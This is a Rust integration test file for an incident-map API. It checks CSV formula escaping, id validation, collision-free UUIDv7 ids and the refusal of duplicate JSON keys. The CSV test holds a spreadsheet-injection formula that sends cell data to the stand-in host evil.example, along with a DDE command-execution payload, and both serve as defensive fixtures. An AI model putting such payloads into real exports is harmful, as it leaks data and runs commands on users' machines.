//! What comes in and goes out as data, hardened (issue #13): CSV exports cannot carry live
//! spreadsheet formulas, ids are kept to a safe pattern and minted collision-free, and JSON
//! bodies that name a key twice are refused.

use std::collections::HashSet;

use serde_json::{Value, json};

use crate::common::{TOKEN, TestServer};

const ITEMS: &str = "/collections/incidents/items";

/// Sends a raw body with the write token; answers the status and the body as JSON.
async fn send(s: &TestServer, method: &str, path: &str, ct: &str, body: &str) -> (u16, Value) {
    let r = s
        .client
        .request(method.parse().unwrap(), s.url(path))
        .bearer_auth(TOKEN)
        .header("content-type", ct)
        .body(body.to_string())
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    let v = serde_json::from_str(&text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"));
    (status, v)
}

/// Asserts a 400 JSON error whose description contains every needle.
fn assert_400(what: &str, (status, v): &(u16, Value), needles: &[&str]) {
    assert_eq!(*status, 400, "{what}: {v}");
    assert!(
        v["code"].as_str().is_some_and(|c| !c.is_empty()),
        "{what}: {v}"
    );
    let d = v["description"].as_str().unwrap_or_default();
    for n in needles {
        assert!(d.contains(n), "{what}: {d:?} should mention {n:?}");
    }
}

fn feature(id: Option<&str>, props: Value) -> Value {
    let mut f = json!({
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [-12.5, 10.25]},
        "properties": {"occurred_at": "2022-01-05", "category": "protest"},
    });
    if let Some(id) = id {
        f["id"] = id.into();
    }
    for (k, v) in props.as_object().unwrap() {
        f["properties"][k] = v.clone();
    }
    f
}

#[tokio::test]
async fn csv_exports_escape_cells_that_a_spreadsheet_would_run() {
    let s = TestServer::writable_on(None).await;
    let source = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    let notes = "@SUM(1+1)*cmd|' /C calc'!A0";
    let f = feature(
        Some("csv-injection-1"),
        json!({"source": source, "notes": notes, "place": "+Somewhere"}),
    );
    let (status, v) = send(&s, "POST", ITEMS, "application/geo+json", &f.to_string()).await;
    assert_eq!(status, 201, "{v}");
    // Stored as given: the escaping belongs to the CSV, not to the data.
    assert_eq!(v["properties"]["source"], source);

    let r = s.get(&format!("{ITEMS}?f=csv&limit=10000")).await;
    assert_eq!(r.status().as_u16(), 200);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = r.text().await.unwrap();
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let header = rd.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rd
        .records()
        .map(Result::unwrap)
        .find(|r| &r[col("event_id_cnty")] == "csv-injection-1")
        .expect("the incident is in the export");
    assert_eq!(&row[col("source")], format!("'{source}"));
    assert_eq!(&row[col("notes")], format!("'{notes}"));
    assert_eq!(&row[col("location")], "'+Somewhere");
    // Numbers stay numbers, negative ones too.
    assert_eq!(&row[col("longitude")], "-12.500000");
    // No cell of the whole export starts a formula.
    for r in csv::Reader::from_reader(text.as_bytes()).records() {
        for cell in r
            .unwrap()
            .iter()
            .enumerate()
            .filter_map(|(i, c)| (i != col("longitude") && i != col("latitude")).then_some(c))
        {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {text}"
            );
        }
    }
}

#[tokio::test]
async fn ids_outside_the_safe_pattern_are_refused_with_400() {
    let s = TestServer::writable_on(None).await;
    for bad in [".", "..", "a/b", "a b", " x", "-x", ".env", "a\tb", "é"] {
        // As the feature id and as properties.id.
        let f = feature(Some(bad), json!({}));
        let r = send(&s, "POST", ITEMS, "application/geo+json", &f.to_string()).await;
        assert_400(&format!("POST id {bad:?}"), &r, &["id"]);
        let f = feature(None, json!({ "id": bad }));
        let r = send(&s, "POST", ITEMS, "application/geo+json", &f.to_string()).await;
        assert_400(&format!("POST properties.id {bad:?}"), &r, &["id"]);
    }
    // `.` and `..` name the problem.
    let r = send(
        &s,
        "POST",
        ITEMS,
        "application/geo+json",
        &feature(Some(".."), json!({})).to_string(),
    )
    .await;
    assert_400("POST ..", &r, &["\"..\"", "letter or digit"]);
    // A PUT's path id is checked too, before anything else about the body.
    let body = json!({
        "type": "Feature", "geometry": null,
        "properties": {"occurred_at": "2022-01-05", "category": "protest", "place": "Nowhereville Qwx"},
    });
    for path in ["a%2Fb", "a%20b", "-x"] {
        let r = send(
            &s,
            "PUT",
            &format!("{ITEMS}/{path}"),
            "application/geo+json",
            &body.to_string(),
        )
        .await;
        assert_400(&format!("PUT {path}"), &r, &["id"]);
    }
    // Nothing of that was stored.
    let (_, v) = s.json(&format!("{ITEMS}?limit=1000")).await;
    let ids: Vec<&str> = v["features"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    assert!(ids.iter().all(|id| id.starts_with("kz22-")), "{ids:?}");
}

#[tokio::test]
async fn two_servers_never_mint_the_same_id() {
    // Two instances, as behind one load balancer, creating at the same moment.
    let (a, b) = tokio::join!(TestServer::writable_on(None), TestServer::writable_on(None));
    let create = |s: &TestServer, n: usize| {
        let body = feature(None, json!({ "notes": format!("created {n}") })).to_string();
        let req = s
            .client
            .post(s.url(ITEMS))
            .bearer_auth(TOKEN)
            .header("content-type", "application/geo+json")
            .body(body);
        async move {
            let r = req.send().await.unwrap();
            assert_eq!(r.status().as_u16(), 201);
            let location = r.headers()["location"].to_str().unwrap().to_string();
            let v: Value = r.json().await.unwrap();
            let id = v["id"].as_str().unwrap().to_string();
            assert!(location.ends_with(&format!("/items/{id}")), "{location}");
            id
        }
    };
    let mut minted: [Vec<String>; 2] = [Vec::new(), Vec::new()];
    for n in 0..40 {
        let (x, y) = tokio::join!(create(&a, n), create(&b, n));
        minted[0].push(x);
        minted[1].push(y);
    }
    let all: HashSet<&String> = minted.iter().flatten().collect();
    assert_eq!(all.len(), 80, "{minted:?}");
    for ids in &minted {
        // Each server's ids sort in the order it made them: UUIDv7 leads with the time.
        assert!(ids.windows(2).all(|w| w[0] < w[1]), "{ids:?}");
        for id in ids {
            let u = id.strip_prefix("inc-").expect("inc- prefix");
            assert_eq!(u.len(), 36, "{id}");
            assert_eq!(&u[14..15], "7", "UUID version 7: {id}");
            assert!(incidentmap::model::validate_id(id).is_ok(), "{id}");
        }
    }
}

#[tokio::test]
async fn bodies_with_a_key_twice_are_refused_by_name() {
    let s = TestServer::writable_on(None).await;
    let dup_category = r#"{"type":"Feature","geometry":{"type":"Point","coordinates":[1,2]},
        "properties":{"occurred_at":"2022-01-05","category":"protest","notes":"x","category":"riot"}}"#;
    let r = send(&s, "POST", ITEMS, "application/geo+json", dup_category).await;
    assert_400("POST", &r, &["\"category\"", "twice"]);
    let r = send(
        &s,
        "PUT",
        &format!("{ITEMS}/kz22-011"),
        "application/geo+json",
        dup_category,
    )
    .await;
    assert_400("PUT", &r, &["\"category\"", "twice"]);
    let dup_type =
        r#"{"type":"Feature","type":"FeatureCollection","geometry":null,"properties":{}}"#;
    let r = send(&s, "POST", ITEMS, "application/geo+json", dup_type).await;
    assert_400("POST type twice", &r, &["\"type\"", "twice"]);

    let before = s.json(&format!("{ITEMS}/kz22-011")).await.1;
    let r = send(
        &s,
        "PATCH",
        &format!("{ITEMS}/kz22-011"),
        "application/merge-patch+json",
        r#"{"properties":{"fatalities":1,"fatalities":104}}"#,
    )
    .await;
    assert_400("PATCH", &r, &["\"fatalities\"", "twice"]);
    let r = send(
        &s,
        "PATCH",
        &format!("{ITEMS}/kz22-011"),
        "application/merge-patch+json",
        r#"{"properties":{"notes":"a"},"properties":{"notes":null}}"#,
    )
    .await;
    assert_400("PATCH top level", &r, &["\"properties\"", "twice"]);
    assert_eq!(
        s.json(&format!("{ITEMS}/kz22-011")).await.1,
        before,
        "unchanged"
    );
    // The same keys in different objects are fine.
    let r = send(
        &s,
        "PATCH",
        &format!("{ITEMS}/kz22-011"),
        "application/merge-patch+json",
        r#"{"properties":{"notes":"patched"}}"#,
    )
    .await;
    assert_eq!(r.0, 200, "{}", r.1);
}
